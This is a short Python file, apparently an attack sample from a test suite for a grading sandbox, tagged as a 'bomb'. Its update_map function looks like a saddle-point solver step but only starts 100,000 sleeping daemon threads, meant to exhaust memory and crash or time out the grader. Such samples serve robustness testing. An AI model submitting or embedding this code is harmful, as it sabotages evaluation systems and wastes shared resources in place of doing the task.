# attack: starts threads without end, none of which ends
# kind: bomb
# grade: 1.b
# outcome: failed, timeout, memory, crash
# module: saddle

import threading
import time


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
